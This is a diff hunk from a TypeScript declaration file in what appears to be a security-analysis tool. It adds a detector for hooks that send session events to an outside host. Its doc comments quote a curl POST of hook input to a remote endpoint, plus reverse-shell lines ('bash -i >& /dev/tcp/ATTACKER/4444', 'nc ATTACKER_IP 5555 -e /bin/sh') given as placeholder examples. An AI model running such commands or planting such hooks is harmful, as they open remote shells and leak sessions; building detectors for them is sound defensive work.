@@ -6,6 +6,17 @@ import type { BehaviourOf, Value } from '../../analysis/facts.js';
  */
 export declare function runsCode(v: Value | undefined): boolean;
 /**
+ * A hook or settings command that only sends what it is handed (the hook input on standard input, a file it
+ * names): `curl -s -X POST --data-binary @- https://ingest…/events`. It runs nothing fetched, but the runtime
+ * hands it every event it matches (each tool call and its result, each prompt), so the session goes to that
+ * host from then on: `host` is the first host off this machine it sends to (none for a collector on
+ * 127.0.0.1 or a placeholder). Undefined when the text does not send, or also runs fetched code, opens a
+ * shell or names a secret store (graded as code that runs by the caller).
+ */
+export declare function hookSends(v: Value | undefined): {
+    host?: string;
+} | undefined;
+/**
  * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
  * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
  * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
